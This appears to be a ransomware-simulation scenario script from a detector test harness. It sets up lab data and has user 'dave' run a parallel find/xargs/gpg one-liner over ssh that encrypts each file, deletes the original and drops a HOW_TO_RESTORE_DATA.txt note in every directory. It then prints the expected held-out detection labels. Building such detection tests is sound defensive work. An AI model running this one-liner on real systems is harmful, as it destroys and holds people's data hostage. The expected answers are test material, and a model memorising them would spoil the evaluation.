# dave runs a one-liner over ssh: find | xargs -P 4 with four gpg workers at a time, each deleting its original;
# a note in every directory.
HOST=lab07.corp.example
SUMMARY="Attack (parallel workers): dave runs over ssh find DATASETS -type f -print0 | xargs -0 -P 4 -n 1 sh -c (gpg --batch -c FILE && rm -f FILE) with four gpg workers at a time over a research group's data, then HOW_TO_RESTORE_DATA.txt in every directory. Host rule set."
RES=/srv/rt-lab/research
targets() { find "$RES" -type f | sort; }

scenario_prepare() {
    /usr/bin/python3 "$RT_RECORD_DIR/make-extra.py" research "$RES" 7007 1104
    rt_note_text > /srv/rt-lab/home/dave/.n; chown dave:dave /srv/rt-lab/home/dave/.n
    targets > "$RT_OPT.targets"; N_FILES=$(wc -l < "$RT_OPT.targets"); N_DIRS=$(rt_count_dirs < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_ssh dave "find $RES -type f -print0 | xargs -0 -P 4 -n 1 sh -c 'gpg --batch --yes --quiet --pinentry-mode loopback --passphrase dv-\$PPID -c \"\$0\" && rm -f \"\$0\"'; find $RES -type d -exec cp ~/.n {}/HOW_TO_RESTORE_DATA.txt \\;; gpgconf --kill all"
}
scenario_verify() {
    rt_check encrypted "$(find "$RES" -name '*.gpg' | wc -l)" "$N_FILES" &&
    rt_check originals-left "$(find "$RES" -type f ! -name '*.gpg' ! -name HOW_TO_RESTORE_DATA.txt | wc -l)" 0
}
scenario_truth() {
    N_NOTE_DIRS=$(find "$RES" -name HOW_TO_RESTORE_DATA.txt | wc -l)
    cat <<Y
split: held-out   # recorded after the detector change (issue 16), never used to tune it
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "xargs -0 -P 4"
    loginUser: dave
    runAsUser: dave
    filesAffected: $N_FILES
    overwrite: new-file-then-delete
    newExtension: .gpg
    workers: 4
    notes: { name: HOW_TO_RESTORE_DATA.txt, directories: $N_NOTE_DIRS }
    tools: [find, xargs, gpg]
    targetRoots: [$RES]
Y
}
scenario_cleanup() { runuser -u dave -- gpgconf --kill all 2>/dev/null; rm -f "$RT_OPT.targets"; }
